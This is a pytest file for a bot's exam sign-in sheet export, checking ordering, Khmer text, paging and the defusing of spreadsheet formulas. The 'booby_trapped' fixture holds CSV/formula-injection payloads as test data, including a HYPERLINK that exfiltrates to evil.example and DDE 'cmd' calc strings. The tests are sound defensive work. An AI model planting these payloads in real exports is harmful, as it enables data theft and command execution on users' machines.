"""The sign-in sheet: the right people in order, Khmer intact, no formulas, read in pages."""

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from babel.support import Translations
from openpyxl import load_workbook
from sqlalchemy import event

from bot.app import App
from bot.i18n import load_translations
from handlers.core.texts import Texts
from handlers.staff.exports import export_csv, export_filename, export_xlsx, sign_in_sheet
from models import Applicant, Exam, Registration, TestSession
from models.erasure import erase_applicant
from models.registrations import CODE_ALPHABET
from models.sign_in import SignInRow, sign_in_rows

NOW = datetime(2027, 9, 1, 3, 0, tzinfo=UTC)
ZONE = ZoneInfo("Asia/Phnom_Penh")
LATER = datetime(2027, 10, 1, 1, 30, tzinfo=UTC)  # 08:30 in Phnom Penh
SOONER = datetime(2027, 9, 20, 6, 0, tzinfo=UTC)  # 13:00 in Phnom Penh


@pytest.fixture(scope="module")
def translations() -> dict[str, Translations]:
    return load_translations()


def texts_in(translations: dict[str, Translations], locale: str) -> Texts:
    return Texts(locale, translations[locale], ZONE)


async def make_session(
    app: App, starts_at: datetime, venue: str = "Phnom Penh Test Centre"
) -> int:
    async with app.conversation.sessions() as db, db.begin():
        if await db.get(Exam, "jft-basic") is None:
            db.add(
                Exam(id="jft-basic", name_km="JFT-Basic", name_en="JFT-Basic", name_ja="JFT-Basic")
            )
        session = TestSession(
            exam_id="jft-basic",
            starts_at=starts_at,
            venue_name_km="មជ្ឈមណ្ឌលប្រឡង", venue_name_en=venue, venue_name_ja="試験会場",
            venue_address_km="a", venue_address_en="a", venue_address_ja="a",
            latitude=11.56, longitude=104.92,
            capacity=5000,
            registration_opens_at=NOW - timedelta(days=10),
            registration_closes_at=starts_at - timedelta(days=1),
        )  # fmt: skip
        db.add(session)
        await db.flush()
        assert session.id is not None
        return session.id


def person(number: int, name: str, khmer: str = "សុខ ដារា") -> Applicant:
    return Applicant(
        telegram_id=20_000 + number,
        chat_id=20_000 + number,
        name_latin=name,
        name_khmer=khmer,
        date_of_birth=date(2001, 3, 15),
        sex="female",
        phone="+85512345678",
        id_number="012345678",
        province="siem-reap",
    )


def code_for(number: int) -> str:
    """A distinct registration code for each number."""
    letters = []
    for _ in range(6):
        number, digit = divmod(number, len(CODE_ALPHABET))
        letters.append(CODE_ALPHABET[digit])
    return "".join(letters)


async def register(
    app: App, session_id: int, people: list[tuple[Applicant, str]], created_at: datetime = NOW
) -> list[str]:
    """Registers each person with the given status; returns the codes in the same order."""
    async with app.conversation.sessions() as db, db.begin():
        db.add_all([applicant for applicant, _ in people])
        await db.flush()
        registrations = []
        for applicant, status in people:
            assert applicant.id is not None
            registrations.append(
                Registration(
                    applicant_id=applicant.id,
                    session_id=session_id,
                    exam_id="jft-basic",
                    status=status,
                    code=code_for(applicant.telegram_id),
                    created_at=created_at,
                    updated_at=created_at,
                )
            )
        db.add_all(registrations)
        return [registration.code for registration in registrations]


async def collect(app: App, session_id: int | None, batch_size: int = 500) -> list[SignInRow]:
    async with app.conversation.sessions() as db:
        return [row async for row in sign_in_rows(db, session_id, batch_size=batch_size)]


@pytest.mark.parametrize("batch_size", [2, 500])
async def test_rows_in_session_then_name_order_without_cancelled_or_erased(
    app_on_each_engine: App, batch_size: int
) -> None:
    app = app_on_each_engine
    later = await make_session(app, LATER)
    sooner = await make_session(app, SOONER, venue="Siem Reap Test Centre")
    erased = person(6, "PICH VANNA")
    later_codes = await register(
        app,
        later,
        [
            (person(1, "SOK DARA"), "confirmed"),
            (person(2, "CHAN SOPHEA"), "waitlisted"),
            (person(3, "KEO MALA"), "cancelled"),
            (person(4, "CHAN SOPHEA"), "attended"),  # the same name: booking order decides
            (person(5, "MEAS RITHY"), "absent"),
            (erased, "confirmed"),
        ],
    )
    sooner_codes = await register(
        app, sooner, [(person(7, "VUTH NARY"), "confirmed"), (person(8, "BORA LIM"), "confirmed")]
    )
    async with app.conversation.sessions() as db, db.begin():
        applicant = await db.get(Applicant, erased.id)
        assert applicant is not None
        await erase_applicant(db, applicant)

    rows = await collect(app, None, batch_size)
    sok, chan, _cancelled, chan_again, meas, _erased = later_codes
    vuth, bora = sooner_codes
    assert [row.code for row in rows] == [bora, vuth, chan, chan_again, meas, sok]
    assert [row.status for row in rows] == [
        "confirmed", "confirmed", "waitlisted", "attended", "absent", "confirmed"
    ]  # fmt: skip
    assert rows[0] == SignInRow(
        code=bora,
        name_latin="BORA LIM",
        name_khmer="សុខ ដារា",
        date_of_birth=date(2001, 3, 15),
        sex="female",
        phone="+85512345678",
        id_number="012345678",
        province="siem-reap",
        status="confirmed",
        registered_at=NOW,
        exam_id="jft-basic",
        starts_at=SOONER,
        venue="Siem Reap Test Centre",
    )

    only_later = await collect(app, later, batch_size)
    assert [row.code for row in only_later] == [chan, chan_again, meas, sok]


def sample_rows() -> list[SignInRow]:
    return [
        SignInRow(
            code="K7M4QX",
            name_latin="SOK DARA",
            name_khmer="សុខ ដារា",
            date_of_birth=date(2001, 3, 15),
            sex="female",
            phone="+85512345678",
            id_number="012345678",
            province="siem-reap",
            status="confirmed",
            registered_at=datetime(2027, 9, 1, 17, 5, 42, tzinfo=UTC),  # 00:05 the next day
            exam_id="jft-basic",
            starts_at=LATER,
            venue="Phnom Penh Test Centre",
        ),
        SignInRow(
            code="A3B4C6",
            name_latin="CHAN SOPHEA",
            name_khmer=None,
            date_of_birth=None,
            sex="male",
            phone="+8562012345678",  # a Lao number, written the Lao way
            id_number="N01234567",
            province="phnom-penh",
            status="waitlisted",
            registered_at=NOW,
            exam_id="jft-basic",
            starts_at=LATER,
            venue="Phnom Penh Test Centre",
        ),
    ]


EXPECTED = {
    "en": [
        ["K7M4QX", "SOK DARA", "សុខ ដារា", "2001-03-15", "Female", "'+855 12 345 678",
         "012345678", "Siem Reap", "confirmed", "2027-09-02 00:05", "jft-basic",
         "2027-10-01 08:30", "Phnom Penh Test Centre"],
        ["A3B4C6", "CHAN SOPHEA", "", "", "Male", "'+856 20 12 345 678", "N01234567",
         "Phnom Penh", "on the waitlist", "2027-09-01 10:00", "jft-basic", "2027-10-01 08:30",
         "Phnom Penh Test Centre"],
    ],
    "km": [
        ["K7M4QX", "SOK DARA", "សុខ ដារា", "2001-03-15", "ស្រី", "'+855 12 345 678",
         "012345678", "សៀមរាប", "បានបញ្ជាក់", "2027-09-02 00:05", "jft-basic",
         "2027-10-01 08:30", "Phnom Penh Test Centre"],
        ["A3B4C6", "CHAN SOPHEA", "", "", "ប្រុស", "'+856 20 12 345 678", "N01234567",
         "ភ្នំពេញ", "នៅក្នុងបញ្ជីរង់ចាំ", "2027-09-01 10:00", "jft-basic", "2027-10-01 08:30",
         "Phnom Penh Test Centre"],
    ],
}  # fmt: skip

HEADERS = [
    "Code", "Name (passport)", "Name in Khmer", "Date of birth", "Sex", "Phone",
    "ID or passport no.", "Province", "Status", "Registered at", "Test", "Session", "Venue",
]  # fmt: skip


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("locale", ["en", "km"])
def test_csv_reads_back_cell_by_cell(translations: dict[str, Translations], locale: str) -> None:
    texts = texts_in(translations, locale)
    data = export_csv(texts, sample_rows())
    assert data.startswith(b"\xef\xbb\xbf")
    assert "សុខ ដារា".encode() in data  # UTF-8, not an ANSI code page
    header, *body = read_csv(data)
    assert header == [texts(name) for name in HEADERS]
    assert body == EXPECTED[locale]
    assert data.count(b"\r\n") == 3  # the line ends Excel expects


def cell_text(value: object) -> object:
    """What the CSV shows for a cell the workbook holds as a typed value."""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    return "" if value is None else value


@pytest.mark.parametrize("locale", ["en", "km"])
def test_xlsx_reads_back_cell_by_cell(translations: dict[str, Translations], locale: str) -> None:
    texts = texts_in(translations, locale)
    book = load_workbook(io.BytesIO(export_xlsx(texts, sample_rows())))
    assert book.sheetnames == ["Sign-in"]
    sheet = book["Sign-in"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["B"].width == 28
    header, *body = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert header == [texts(name) for name in HEADERS]

    # The same cells as the CSV, except that the phone needs no apostrophe in a text cell.
    expected = [[cell.removeprefix("'") for cell in row] for row in EXPECTED[locale]]
    for row in expected:
        row[3] = row[3] and f"{row[3]} 00:00"  # a date comes back as midnight of that day
    assert [[cell_text(value) for value in row] for row in body] == expected

    birth, registered, starts = sheet["D2"], sheet["J2"], sheet["L2"]
    assert birth.is_date
    assert birth.value.date() == date(2001, 3, 15)
    assert birth.number_format == "yyyy-mm-dd"
    assert registered.is_date
    assert registered.value == datetime(2027, 9, 2, 0, 5)
    assert starts.number_format == "yyyy-mm-dd hh:mm"
    assert sheet["C2"].value == "សុខ ដារា"


def booby_trapped() -> SignInRow:
    return SignInRow(
        code="K7M4QX",
        name_latin='=HYPERLINK("http://evil.example/?"&A1,"open")',
        name_khmer="+cmd|' /C calc'!A0",
        date_of_birth=date(2001, 3, 15),
        sex="female",
        phone=None,
        id_number="-2+3",
        province="@SUM(1+1)*cmd|' /C calc'!A0",  # not a province: shown as it is
        status="confirmed",
        registered_at=NOW,
        exam_id="jft-basic",
        starts_at=LATER,
        venue="\t=1+1",
    )


TRAPS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_formulas_are_defused_in_csv(translations: dict[str, Translations]) -> None:
    data = export_csv(texts_in(translations, "en"), [booby_trapped()])
    [_header, row] = read_csv(data)
    assert [row[1], row[2], row[6], row[7], row[12]] == ["'" + trap for trap in TRAPS]


def test_formulas_are_defused_in_xlsx(translations: dict[str, Translations]) -> None:
    data = export_xlsx(texts_in(translations, "en"), [booby_trapped()])
    sheet = load_workbook(io.BytesIO(data))["Sign-in"]
    cells = [sheet["B2"], sheet["C2"], sheet["G2"], sheet["H2"], sheet["M2"]]
    # Text cells marked as text the way Excel does it: the exact value, never evaluated.
    assert [cell.value for cell in cells] == TRAPS
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("session_id", "kind", "expected"),
    [
        (3, "csv", "sign-in-session-3-2027-10-01.csv"),
        (None, "xlsx", "sign-in-all-2027-10-01.xlsx"),
    ],
)
def test_export_filename(session_id: int | None, kind: str, expected: str) -> None:
    assert export_filename(session_id, kind, datetime(2027, 10, 1, 23, 59)) == expected


def test_export_filename_refuses_other_kinds() -> None:
    with pytest.raises(ValueError, match="pdf"):
        export_filename(3, "pdf", NOW)


async def test_3000_registrations_stream_in_pages(
    app_on_each_engine: App, translations: dict[str, Translations]
) -> None:
    app = app_on_each_engine
    session_id = await make_session(app, LATER)
    count = 3000
    people = [
        (person(number, f"APPLICANT {number:05d}", "សុខ ដារា " * 8), "confirmed")
        for number in range(count)
    ]
    await register(app, session_id, people)
    texts = texts_in(translations, "km")

    queries: list[str] = []

    def record(conn: object, cursor: object, statement: str, *args: object) -> None:
        if "FROM registration" in statement:
            queries.append(statement)

    event.listen(app.engine.sync_engine, "before_cursor_execute", record)
    try:
        tracemalloc.start()
        async with app.conversation.sessions() as db:
            streamed = await sign_in_sheet(db, texts, session_id, "csv")
        _, streaming_peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    finally:
        event.remove(app.engine.sync_engine, "before_cursor_execute", record)

    # Six full pages of 500, then one that comes back empty.
    assert len(queries) == count // 500 + 1
    lines = read_csv(streamed)
    assert len(lines) == count + 1
    assert [line[1] for line in lines[1:]] == [f"APPLICANT {n:05d}" for n in range(count)]

    # All the rows at once take several times what one page does.
    tracemalloc.start()
    async with app.conversation.sessions() as db:
        everything = [row async for row in sign_in_rows(db, session_id, batch_size=count)]
        whole = export_csv(texts, everything)
    _, whole_peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert whole == streamed
    assert streaming_peak < whole_peak / 2

    async with app.conversation.sessions() as db:
        book = load_workbook(io.BytesIO(await sign_in_sheet(db, texts, session_id, "xlsx")))
    assert book["Sign-in"].max_row == count + 1
